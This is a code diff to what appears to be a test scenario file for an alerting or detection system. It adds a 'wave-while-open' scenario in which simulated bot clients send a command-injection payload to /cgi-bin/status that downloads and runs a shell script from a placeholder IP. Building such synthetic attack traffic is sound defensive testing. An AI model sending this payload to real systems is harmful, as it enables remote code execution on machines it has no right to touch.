@@ -79,6 +79,23 @@ export const WAVES: readonly Situation[] = [
     },
   },
   {
+    // One exploit of few rules. The first senders go on a little, so that their alert is still open when others begin.
+    name: "wave-while-open",
+    cases: { main: ATTACK, second: WAVE },
+    play(scene) {
+      const { dice, start, pace, send } = scene;
+      const from = later(scene, 15);
+      const shoot = (senders: number, begin: number, minutes: number, perMinute: number, of?: string) => {
+        const clients = Array.from({ length: senders }, () => zombie(dice, JA4.go));
+        const request = post("/cgi-bin/status", "host", ";cd /tmp; wget http://203.0.113.77/m.sh; sh m.sh");
+        pace(begin, minutes, perMinute, (at) => send(at, by(dice.pick(clients), request), of));
+      };
+      shoot(5, start, 15, 20);
+      shoot(2, start, (from - start) / MINUTE_MS + 10, 1.5);
+      shoot(3, from, 20, 25, "second");
+    },
+  },
+  {
     name: "second-scan",
     cases: { main: SCAN, second: { ...SCAN, isWave: true } },
     play(scene) {
